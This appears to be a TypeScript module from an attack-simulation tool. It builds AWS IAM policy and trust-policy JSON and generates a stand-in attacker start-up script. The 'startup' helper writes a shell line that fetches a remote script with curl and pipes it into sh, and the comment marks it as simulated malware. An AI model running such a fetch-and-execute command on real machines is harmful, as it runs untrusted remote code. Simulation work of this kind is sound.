import type { Act } from './technique.ts';

/** A policy of one statement, over everything. */
export const document = (Effect: 'Allow' | 'Deny', Action: string | string[]): string =>
  JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect, Action, Resource: '*' }] });

/** A trust policy, one statement for each principal. */
export const trust = (...principals: object[]): string =>
  JSON.stringify({ Version: '2012-10-17', Statement: principals.map((Principal) => ({ Effect: 'Allow', Principal, Action: 'sts:AssumeRole' })) });

/** Start-up code as an attacker leaves it. It stands in for malware: the address is a documentation address. */
export const startup = (act: Act): string => `#!/bin/sh\ncurl -fsS http://${act.company.script}/s.sh | sh\n`;
